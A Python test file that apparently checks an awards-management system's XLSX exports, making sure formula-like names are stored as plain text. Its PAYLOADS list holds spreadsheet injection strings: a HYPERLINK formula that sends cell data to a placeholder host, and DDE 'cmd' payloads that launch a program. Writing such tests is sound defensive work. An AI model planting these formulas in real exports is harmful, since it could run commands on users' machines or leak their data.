"""Spreadsheet formula injection (OWASP "CSV injection"): a name that starts like a formula
comes out of every XLSX Laurel writes as text, never as a live formula."""

from __future__ import annotations

import io

from openpyxl import load_workbook

from api.tabular import workbook_bytes
from tests.builders.backends import BACKENDS
from tests.builders.clock import FIVE_GOOD_2022, Clock
from tests.builders.forms import FIVE_PROTECTIONS_OK, SITE_CHECKLIST, site_scores
from tests.builders.http import serve_in_process
from tests.builders.material import material_of

PAYLOADS = [
    '=HYPERLINK("http://x/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
# XML reads a bare carriage return back as a line feed (openpyxl writes no _x000D_ escape), so
# that one payload reopens with "\n"; it is text either way.
SHOWN = [p.replace("\r", "\n") for p in PAYLOADS]


def cells(body: bytes) -> list[list]:
    """Every cell of every sheet, opened as a user's spreadsheet program would (formulas kept)."""
    book = load_workbook(io.BytesIO(body))
    return [list(row) for sheet in book.worksheets for row in sheet.iter_rows()]


def test_the_writer_stores_every_dangerous_prefix_as_text_and_numbers_as_numbers() -> None:
    rows = [[payload, -3, 2.5, None, "plain"] for payload in PAYLOADS]
    opened = cells(workbook_bytes("=evil", ["=header", "score"], rows))
    assert not [c.coordinate for row in opened for c in row if c.data_type == "f"]
    assert [c.value for c in opened[0][:2]] == ["=header", "score"]
    for payload, row in zip(SHOWN, opened[1:], strict=True):
        assert (row[0].value, row[0].data_type) == (payload, "s")  # the visible text unchanged
        assert row[0].quotePrefix  # Excel's hidden apostrophe: editing the cell keeps it text
        assert (row[1].value, row[1].data_type) == (-3, "n")  # a negative number stays a number
        assert (row[2].value, row[2].data_type) == (2.5, "n")
        assert row[3].value is None and (row[4].value, row[4].quotePrefix) == ("plain", False)


def test_text_recorded_with_a_control_character_before_they_were_refused_still_exports() -> None:
    book = load_workbook(
        io.BytesIO(workbook_bytes("t", ["名称 / Name"], [["前双村\x00站点"], ["=x\x1b"]]))
    )
    assert [c.value for c in book.active["A"]][1:] == ["前双村\ufffd站点", "=x\ufffd"]


@BACKENDS
def test_commendation_list_holds_formula_names_as_text(database_url: str) -> None:
    clock = Clock(FIVE_GOOD_2022.declaration)
    with serve_in_process(database_url, clock) as server, server.client() as admin:
        for unit in [
            {"id": "city-1", "name": "Sample City", "name_zh": "示范市", "level": "city"},
            {
                "id": "county-1",
                "name": "Yijun County",
                "name_zh": "宜君县",
                "level": "county",
                "parent_id": "city-1",
            },
            {
                "id": "town-3",
                "name": "=1+1",
                "name_zh": "=2+2",
                "level": "township",
                "parent_id": "county-1",
            },
            *(
                {
                    "id": f"vil-3-{i:02d}",
                    "name": f"Village {i}",
                    "name_zh": f"村{i}",
                    "level": "village",
                    "parent_id": "town-3",
                }
                for i in range(len(PAYLOADS))
            ),
        ]:
            assert admin.post("/v1/units", json=unit).status_code == 201, unit
        tokens = {
            role: admin.post("/v1/tokens", json={"role": role, "unit_id": unit}).json()["token"]
            for role, unit in [("declarer", "town-3"), ("reviewer", "city-1"), ("inspector", "city-1")]
        }
        declarer, reviewer, inspector = (
            server.client(tokens[r]) for r in ("declarer", "reviewer", "inspector")
        )
        cid = admin.post(
            "/v1/campaigns",
            json={
                "template": "five-good-sites",
                "organiser_unit_id": "city-1",
                "year": 2022,
                "quotas": {"five_good_site": 10},
            },
        ).json()["id"]

        ids = []
        for i, payload in enumerate(PAYLOADS):
            body = {
                "category": "five_good_site",
                "declaring_unit_id": "town-3",
                "nominee": {"kind": "site", "unit_id": f"vil-3-{i:02d}", "name": payload},
                "form": {},
                "material": material_of(),
            }
            declared = declarer.post(f"/v1/campaigns/{cid}/nominations", json=body)
            assert declared.status_code == 201, declared.text
            ids.append(declared.json()["id"])
        clock.now = FIVE_GOOD_2022.pre_review
        for nid in ids:
            assert (
                reviewer.post(
                    f"/v1/nominations/{nid}/pre-review",
                    json={"decision": "admit", "checks": FIVE_PROTECTIONS_OK},
                ).status_code
                == 200
            )
        clock.now = FIVE_GOOD_2022.inspection
        for nid in ids:
            done = inspector.post(
                f"/v1/nominations/{nid}/inspections",
                json={
                    "methods": ["document_review", "site_visit"],
                    "scores": site_scores(90),
                    "checklist": SITE_CHECKLIST,
                    "verdict": "pass",
                },
            )
            assert done.status_code == 200, done.text
        clock.now = FIVE_GOOD_2022.commendation
        assert len(
            reviewer.post(
                f"/v1/campaigns/{cid}/commendations", json={"category": "five_good_site"}
            ).json()["commended"]
        ) == len(PAYLOADS)

        xlsx = admin.get(f"/v1/campaigns/{cid}/commendations.xlsx")
        assert xlsx.status_code == 200
        opened = cells(xlsx.content)
        assert not [(c.coordinate, c.value) for row in opened for c in row if c.data_type == "f"]
        names = [row[3] for row in opened[1:]]
        assert sorted(c.value for c in names) == sorted(SHOWN) and all(c.data_type == "s" for c in names)
        assert {row[5].value for row in opened[1:]} == {
            "=2+2 / =1+1"
        }  # the declaring unit's names, text too
        assert all(row[6].data_type == "n" for row in opened[1:])  # scores stay numbers
        for client in (declarer, reviewer, inspector):
            client.close()
